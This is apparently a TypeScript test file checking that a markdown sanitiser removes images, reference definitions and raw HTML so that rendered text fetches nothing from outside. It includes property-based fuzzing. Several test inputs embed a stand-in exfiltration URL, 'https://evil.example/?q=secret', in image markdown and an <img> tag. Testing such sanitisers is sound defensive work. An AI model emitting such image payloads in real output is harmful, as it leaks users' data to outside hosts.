import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { HOSTILE_MARKDOWN } from '../html/hostile-fixtures.js';
import { parseMarkdown } from './codec.js';
import { withoutSources } from './without-sources.js';

const SPY = 'https://evil.example/?q=secret';
const isForeign = (markdown: string) =>
  /"type":"(?:image|imageReference|definition)"|"type":"html","value":"<(?!\/?(?:br|kbd|mark|s|small|sub|sup|u)\b)/.test(
    JSON.stringify(parseMarkdown(markdown)),
  );

describe('withoutSources', () => {
  it('has the words of pictures and HTML in their place, and leaves all else as it was', () => {
    const text = `# 茶\n\n*沸水* [1]，[说明](https://a.example) ==好== \`![x](y)\`\n\n- 一\n- 二\n`;
    expect(withoutSources(text)).toBe(text);
    expect(withoutSources(`甲![一张 *图*](${SPY})乙`)).toBe('甲一张 图乙');
    expect(withoutSources(`甲![](${SPY})乙`)).toBe('甲▢乙');
    expect(withoutSources(`[![图](${SPY})](https://a.example)`)).toBe('[图](https://a.example)');
    expect(withoutSources(`a <img src="${SPY}"> b`)).toBe(
      'a \\<img src\\="https\\://evil.example/?q\\=secret"\\> b',
    );
    expect(withoutSources('| a |\n|---|\n| x<br>y |\n')).toBe('| a |\n|---|\n| x<br>y |\n');
  });

  it('knows pictures by reference, and the addresses they may come to', () => {
    const said = withoutSources(`![图][p] ![q]\n\n[p]: ${SPY}\n[q]: ${SPY}\n`);
    expect(said).toMatch(/^图 q\n/);
    expect(isForeign(said)).toBe(false);
  });

  it('lets stay what the passage has itself, and nothing else', () => {
    const passage = '![我的](/files/a.png)\n\n<div class="x">一</div>\n';
    expect(withoutSources(passage, passage)).toBe(passage);
    expect(withoutSources(`![换了字](/files/a.png) ![偷](${SPY})`, passage)).toBe(
      '![换了字](/files/a.png) 偷',
    );
    expect(withoutSources('<div class="y">一</div>', passage)).not.toMatch(/^</);
  });

  it.each(HOSTILE_MARKDOWN)('leaves nothing to fetch of %s', (markdown) => {
    expect(isForeign(withoutSources(markdown))).toBe(false);
  });

  it('leaves nothing to fetch of anything, and is done the first time', () => {
    const piece = fc.constantFrom(
      '![',
      '[',
      '](',
      ')',
      '](u)',
      '[a]: u\n',
      '![a]',
      '<img src=u>',
      '<!--',
      '-->',
      '<div>\n',
      '\n\n',
      '\n',
      '> ',
      '- ',
      '    ',
      '`',
      '\\',
      '!',
      '|',
      '*',
      'a',
      '$',
      '==',
      '<pre>',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
        const said = withoutSources(pieces.join(''));
        expect(isForeign(said)).toBe(false);
        expect(withoutSources(said)).toBe(said);
      }),
      { numRuns: 400 },
    );
  });
});
